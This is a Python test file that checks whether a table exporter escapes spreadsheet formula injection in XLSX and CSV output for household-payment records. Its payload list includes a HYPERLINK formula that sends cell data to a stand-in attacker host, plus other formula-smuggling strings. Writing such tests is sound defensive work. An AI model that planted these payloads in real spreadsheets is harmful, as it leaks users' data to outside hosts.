"""Issue 13 item 4: text that a spreadsheet would run as a formula is exported as text; numbers stay numbers."""

import csv
import io
import zipfile

from openpyxl import load_workbook

from documents.tables import Column, Table, to_csv, to_xlsx

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _table():
    rows = [{"name": text, "amount": -1500, "count": 3} for text in PAYLOADS]
    return Table(title="=1+1 tiêu đề", subtitle=["@người lập"], note="-ghi chú", rows=rows,
                 columns=[Column("name", "Họ tên chủ hộ"), Column("amount", "Số tiền", "money"),
                          Column("count", "Số hộ", "integer")])


def test_no_xlsx_cell_holding_a_household_name_is_a_formula():
    data = to_xlsx(_table())
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    ws = load_workbook(io.BytesIO(data)).active
    texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert {c.value for c in texts} >= set(PAYLOADS) | {"=1+1 tiêu đề", "@người lập", "-ghi chú"}
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)


def test_xlsx_negative_money_stays_a_number():
    ws = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    numbers = [c for row in ws.iter_rows() for c in row if c.data_type == "n" and c.value is not None]
    assert -1500 in [c.value for c in numbers] and 3 in [c.value for c in numbers]


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe_and_numbers_do_not():
    rows = list(csv.reader(io.StringIO(to_csv(_table()).decode("utf-8-sig"))))
    names = [r[0] for r in rows[1:1 + len(PAYLOADS)]]
    assert names == ["'" + p for p in PAYLOADS]
    assert rows[1][1:] == ["-1500", "3"]
